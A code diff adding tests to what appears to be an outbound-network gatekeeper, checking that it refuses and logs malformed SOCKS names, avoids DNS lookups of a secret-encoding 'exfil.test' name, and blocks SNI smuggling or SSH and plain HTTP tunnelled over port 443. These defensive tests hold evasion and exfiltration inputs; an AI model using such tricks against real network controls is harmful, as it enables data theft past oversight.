@@ -515,3 +515,122 @@ def test_a_grant_on_the_hosts_own_address_still_opens_it(
         assert session.recorder.entries[0].category == "localhost"
     finally:
         service.close()
+
+
+# --- 7. smaller gaps in the record and the checks -----------------------------------------------
+
+
+def test_refused_socks_requests_with_malformed_names_are_logged(
+    start_session: SessionFactory,
+) -> None:
+    session = open_web(start_session)
+    for name in (b"a b!", "caf\u00e9.test".encode(), b"x\nGET / HTTP/1.1"):
+        with client(session) as sock:
+            sock.sendall(b"\x05\x01\x00")
+            assert sock.recv(2) == b"\x05\x00"
+            sock.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
+            assert read_all(sock)[:2] == b"\x05\x01"  # general failure
+    logged = [(e.method, e.port, e.decision) for e in session.recorder.entries]
+    assert logged == [("SOCKS5", 443, "deny")] * 3
+    assert all(h.isprintable() for h in (e.host for e in session.recorder.entries))
+
+
+def test_a_name_under_internal_services_ask_is_not_resolved_before_approval(
+    tmp_path: Path, outer: IsolatedNet
+) -> None:
+    from gatekeeper.policy.model import Policy
+
+    outer.assert_inside()
+    looked_up: list[str] = []
+
+    def resolver(host: str, port: int) -> list[str]:
+        looked_up.append(host)
+        return ["10.77.0.2"]
+
+    policy = Policy.model_validate(
+        {"network": {"internal_services": "ask", "arbitrary_web": "deny"}}
+    )
+    session = NetworkSession(
+        policy, grants=[], ask="never", run_dir=tmp_path / "run", resolver=resolver, env={}
+    )
+    session.start()
+    try:
+        reply = exchange(session, b"GET http://c2VjcmV0.exfil.test/ HTTP/1.1\r\n\r\n")
+        assert reply.startswith(b"HTTP/1.1 403 ")
+        assert looked_up == []  # the name itself never left through DNS
+        entry = session.recorder.entries[0]
+        assert (entry.category, entry.decision) == ("arbitrary_web", "deny")
+        _, escalations = session.recorder.snapshot()
+        assert [(e.value, e.decision) for e in escalations] == [
+            ("c2vjcmv0.exfil.test:80", "pending")
+        ]
+    finally:
+        session.stop()
+
+
+def test_a_name_that_does_not_resolve_is_logged_with_its_category(
+    start_session: SessionFactory,
+) -> None:
+    session = open_web(start_session)
+    reply = exchange(session, b"GET http://unknown.test/ HTTP/1.1\r\n\r\n")
+    assert reply.startswith(b"HTTP/1.1 502 ")
+    entry = session.recorder.entries[0]
+    assert (entry.category, entry.decision) == ("arbitrary_web", "error")
+
+
+def hello_naming(*names: bytes) -> bytes:
+    """A minimal TLS ClientHello whose server_name list holds names, in order."""
+    listed = b"".join(b"\x00" + len(n).to_bytes(2, "big") + n for n in names)
+    sni = len(listed).to_bytes(2, "big") + listed
+    extensions = b"\x00\x00" + len(sni).to_bytes(2, "big") + sni
+    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
+    body += len(extensions).to_bytes(2, "big") + extensions
+    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
+    return b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake
+
+
+def tunnel_then(session: NetworkSession, first: bytes) -> bytes:
+    with client(session) as sock:
+        sock.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
+        head = b""
+        while not head.endswith(b"\r\n\r\n"):
+            head += sock.recv(1)
+        assert head.startswith(b"HTTP/1.1 200 ")
+        sock.sendall(first)
+        try:
+            return read_all(sock)
+        except ConnectionResetError:
+            return b""
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        hello_naming(b"allowed.test", b"evil.test"),
+        hello_naming(b"evil.test", b"allowed.test"),
+        b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+        b"SSH-2.0-OpenSSH_9.6\r\n",
+    ],
+    ids=["allowed-then-other", "other-then-allowed", "plain-http-on-443", "ssh-on-443"],
+)
+def test_every_server_name_is_judged_and_port_443_carries_only_tls(
+    start_session: SessionFactory, outer: IsolatedNet, first: bytes
+) -> None:
+    with outer.inside("remote"):
+        upstream = TcpRecorder(REMOTE_V4, 443)
+    try:
+        session, _ = start_session(
+            {"arbitrary_web": "deny"},
+            grants=["network=allowed.test:443"],
+            names={"allowed.test": [REMOTE_V4]},
+            limits=FAST,
+        )
+        tunnel_then(session, first)
+        time.sleep(0.2)
+        assert upstream.received == b""
+        entry = session.recorder.entries[0]
+        assert entry.decision == "deny", entry
+        tunnel_then(session, hello_naming(b"allowed.test"))  # the honest hello still passes
+        assert upstream.received == hello_naming(b"allowed.test")
+    finally:
+        upstream.close()
